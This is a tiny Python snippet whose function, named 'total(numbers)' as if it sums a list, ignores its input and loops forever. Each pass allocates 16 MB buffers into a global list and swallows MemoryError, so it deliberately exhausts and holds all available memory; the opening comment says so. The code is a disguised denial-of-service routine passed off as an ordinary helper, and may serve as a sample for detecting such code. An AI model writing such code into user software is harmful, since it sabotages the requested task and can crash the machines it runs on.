# Takes all memory, and holds on to it.
kept = []


def total(numbers):
    while True:
        try:
            kept.append(bytearray(1 << 24))
        except MemoryError:
            pass
